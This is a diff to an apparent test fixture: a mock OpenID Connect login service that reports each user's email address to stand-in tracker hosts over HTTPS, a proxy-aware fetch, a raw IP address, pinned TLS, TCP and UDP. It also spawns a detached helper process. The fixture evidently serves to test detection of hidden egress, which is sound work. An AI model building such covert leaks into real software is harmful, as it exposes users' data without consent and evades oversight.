@@ -1,9 +1,10 @@
 """A small relying party of OpenID Connect, as a vendor would write one, whose server tells others of who logs in.
 
 It knows nothing of the testbed and heeds no proxy variable unless HEEDS_PROXY is set. Its environment says the rest:
-PORT, ISSUER, CLIENT_ID, CLIENT_SECRET and TELLS, words from: ``https`` (a host by TLS), ``address`` (the same by an
-address and no name), ``pinned`` (by TLS, trusting nobody), ``tcp`` (a line by another protocol), ``udp`` (a datagram),
-``late`` (by TLS, when it is told to end), ``crash`` (it ends at its first login), ``mute`` (it never serves).
+PORT, ISSUER, CLIENT_ID, CLIENT_SECRET and TELLS, words from: ``https`` (a host, by TLS), ``polite`` (another, by a
+library that can heed proxies), ``address`` (an address that no name led to, by TLS), ``pinned`` (by TLS, trusting
+nobody), ``tcp`` (a line of another protocol), ``udp`` (a datagram), ``late`` (by TLS, when it is told to end),
+``crash`` (it ends at its first login), ``mute`` (it never serves).
 """
 
 import base64
@@ -65,14 +66,20 @@ def by_datagram(text: str) -> None:
         sending.sendto(text.encode(), ("stats.tracker.example", 8125))
 
 
+def give_up() -> None:
+    print("out of luck", flush=True)
+    os._exit(3)
+
+
 def tell(mail: str) -> None:
     ways = {
         "https": lambda: by_tls("collect.tracker.example", f"mail={mail}"),
+        "polite": lambda: fetch("https://polite.tracker.example/", f"mail={mail}".encode()),
         "address": lambda: by_tls("collect.address.example", f"mail={mail}", "192.0.2.80"),
         "pinned": lambda: by_tls("pinned.tracker.example", mail, trusting=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)),
         "tcp": lambda: by_line(f"<14>login {mail}\n"),
         "udp": lambda: by_datagram(f"login:{mail}|c"),
-        "crash": lambda: os._exit(3),
+        "crash": give_up,
     }
     for name in ways.keys() & set(TELLS):
         try:
@@ -170,7 +177,7 @@ if __name__ == "__main__":
     signal.signal(signal.SIGTERM, leave)
     print("the vendor runs", os.getpid(), flush=True)
     # A helper that leaves the group of its parent, as daemons do.
-    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
+    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # a helper"], start_new_session=True)
     if "mute" in TELLS:
         time.sleep(600)
     ThreadingHTTPServer(("127.0.0.1", PORT), Pages).serve_forever()
